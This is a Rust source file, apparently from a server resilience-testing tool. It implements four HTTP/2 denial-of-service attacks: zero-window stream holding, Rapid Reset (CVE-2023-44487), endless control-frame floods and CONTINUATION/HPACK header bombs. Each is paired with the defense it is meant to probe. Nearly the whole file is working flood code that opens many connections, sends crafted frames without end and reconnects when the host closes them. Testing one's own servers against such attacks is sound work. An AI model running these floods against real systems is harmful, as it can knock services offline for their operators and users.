//! Against HTTP/2: streams that are never read, and frames without end.

use std::thread;
use std::time::Duration;

use anyhow::Result;

use super::{Attack, Logic};
use crate::http2::{
    CONTINUATION, Client, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING,
    PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, fields, frame, string,
};
use crate::target::{Tally, Target};

/// Streams of a connection.
const STREAMS: u32 = 200;
/// Frames in one write.
const BATCH: u32 = 200;
/// The largest payload that needs no agreement.
const PAYLOAD: usize = 1 << 14;

pub fn attacks() -> Vec<Attack> {
    vec![
        Attack::new(
            "http2-zero-window",
            "3 connections with a window of zero hold up to 200 large lists each, and send PING",
            "a budget of unsent bytes for the process and each connection; a timeout without progress",
            Logic::Tasks,
            zero_window,
        )
        .lasting(4),
        Attack::new(
            "http2-rapid-reset",
            "8 connections open streams and reset them at once (CVE-2023-44487)",
            "resets of a connection; requests that wait",
            Logic::Tasks,
            |target| flood(target, rapid_reset),
        ),
        Attack::new(
            "http2-control-frames",
            "8 connections send PING, SETTINGS, PRIORITY, WINDOW_UPDATE or empty DATA without end, and read nothing",
            "answers that are not read stop the reading",
            Logic::Tasks,
            |target| flood(target, control_frames),
        ),
        Attack::new(
            "http2-header-bombs",
            "8 connections send endless CONTINUATION frames, or fields that refer to a large one 16,000 times",
            "the size of a head after decompression",
            Logic::Tasks,
            |target| flood(target, header_bombs),
        ),
    ]
}

fn zero_window(target: &Target) -> Result<String> {
    let tally = Tally::default();
    target.crowd(3, |_| {
        let held = hold_streams(target, &tally);
        tally.count(match held {
            Ok(()) => "connection held".to_owned(),
            Err(error) => format!("connection closed ({})", error.kind()),
        });
    });
    Ok(tally.to_string())
}

/// Opens streams as fast as the host answers them, and keeps those that wait for the window.
fn hold_streams(target: &Target, tally: &Tally) -> std::io::Result<()> {
    let mut client = Client::open(target, &[(INITIAL_WINDOW_SIZE, 0)])?;
    let head = fields("GET", "/tasks?limit=1000");
    let (mut number, mut asked, mut held) = (0, 0, 0);
    while !target.over() {
        while asked < 4 && asked + held < STREAMS {
            client.write(&frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                stream(number),
                &head,
            ))?;
            (number, asked) = (number + 1, asked + 1);
        }
        client.write(&frame(PING, 0, 0, &[0; 8]))?;
        for (answered, is_ok) in client.heads()? {
            asked -= 1;
            if is_ok {
                held += 1;
                tally.count("stream held");
            } else {
                client.write(&frame(RST_STREAM, 0, answered, &8_u32.to_be_bytes()))?;
                tally.count("stream refused");
            }
        }
        thread::park_timeout(Duration::from_millis(20));
    }
    Ok(())
}

/// Runs `attacker` on 8 connections. When the host closes one, opens the next.
fn flood(
    target: &Target,
    attacker: fn(&Target, &mut Client, usize, &Tally) -> std::io::Result<()>,
) -> Result<String> {
    let tally = Tally::default();
    target.crowd(8, |number| {
        while !target.over() {
            let ended = Client::open(target, &[])
                .and_then(|mut client| attacker(target, &mut client, number, &tally));
            if let Err(error) = ended {
                tally.count(format!("closed ({})", error.kind()));
            }
        }
    });
    Ok(tally.to_string())
}

fn rapid_reset(
    target: &Target,
    client: &mut Client,
    _: usize,
    tally: &Tally,
) -> std::io::Result<()> {
    let head = fields("GET", "/tasks?limit=1000");
    let mut number = 0;
    while !target.over() {
        let mut frames = Vec::new();
        for _ in 0..BATCH {
            frames.extend(frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                stream(number),
                &head,
            ));
            frames.extend(frame(RST_STREAM, 0, stream(number), &8_u32.to_be_bytes()));
            number += 1;
        }
        client.write(&frames)?;
        client.discard()?;
        tally.count("batch of 200 resets");
    }
    Ok(())
}

fn control_frames(
    target: &Target,
    client: &mut Client,
    number: usize,
    tally: &Tally,
) -> std::io::Result<()> {
    let head = fields("POST", "/tasks");
    client.write(&frame(HEADERS, END_HEADERS, 1, &head))?;
    let (name, one) = match number % 5 {
        0 => ("PING", frame(PING, 0, 0, &[0; 8])),
        1 => ("SETTINGS", frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
        2 => ("PRIORITY", frame(PRIORITY, 0, 3, &[0, 0, 0, 0, 1])),
        3 => (
            "WINDOW_UPDATE",
            frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes()),
        ),
        _ => ("DATA", frame(DATA, 0, 1, &[])),
    };
    let frames = one.repeat(1000);
    while !target.over() {
        client.write(&frames)?;
        tally.count(format!("1000 {name}"));
    }
    Ok(())
}

fn header_bombs(
    target: &Target,
    client: &mut Client,
    number: usize,
    tally: &Tally,
) -> std::io::Result<()> {
    // A field of 4000 bytes that the other end keeps, then nothing but references to it.
    let kept = [&[0x40][..], &string("x-large"), &string(&"x".repeat(4000))].concat();
    let (first, next) = if number.is_multiple_of(2) {
        let first = [fields("GET", "/tasks/1"), kept].concat();
        (first, vec![0xbe; PAYLOAD])
    } else {
        let field = [&[0][..], &string("x-field"), &string(&"y".repeat(100))].concat();
        let count = PAYLOAD / field.len();
        (fields("GET", "/tasks/1"), field.repeat(count))
    };
    client.write(&frame(HEADERS, 0, 1, &first))?;
    while !target.over() {
        client.write(&frame(CONTINUATION, 0, 1, &next))?;
        tally.count("CONTINUATION of 16 KiB");
    }
    Ok(())
}

/// The number of a client's stream.
fn stream(number: u32) -> u32 {
    number % (1 << 30) * 2 + 1
}
